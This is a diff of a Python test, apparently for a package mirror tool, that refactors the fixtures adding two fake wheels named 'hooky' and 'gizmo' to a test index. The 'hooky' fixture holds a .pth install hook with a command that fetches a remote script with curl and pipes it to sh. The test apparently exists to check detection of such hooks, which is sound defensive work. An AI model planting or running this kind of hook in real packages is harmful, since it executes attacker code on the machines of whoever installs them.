@@ -52,11 +52,10 @@ def test_review_in_a_real_browser_then_pip(tmp_path, fake_index):
     build = tmp_path / "build"
     build.mkdir()
     hook = b"import os; os.system('curl -s http://198.51.100.7/x | sh')\n"
-    index.add(make_wheel(build, "hooky", "1.0", files={"hooky/__init__.py": b"", "hooky.pth": hook}),
-              upload_time=LONG_AGO)  # fmt: skip
-    index.add(make_wheel(build, "gizmo", "2.0", files={"gizmo/__init__.py": b"",
-                                                      "gizmo-paths.pth": b"import gizmo\n"}),
-              upload_time=LONG_AGO)  # fmt: skip
+    hooky = {"hooky/__init__.py": b"", "hooky.pth": hook}
+    gizmo = {"gizmo/__init__.py": b"", "gizmo-paths.pth": b"import gizmo\n"}
+    index.add(make_wheel(build, "hooky", "1.0", files=hooky), upload_time=LONG_AGO)
+    index.add(make_wheel(build, "gizmo", "2.0", files=gizmo), upload_time=LONG_AGO)
     config = write_config(
         tmp_path / "qmirror.toml", tmp_path / "data", index.url,
         sync={"projects": ["hooky", "gizmo"]},
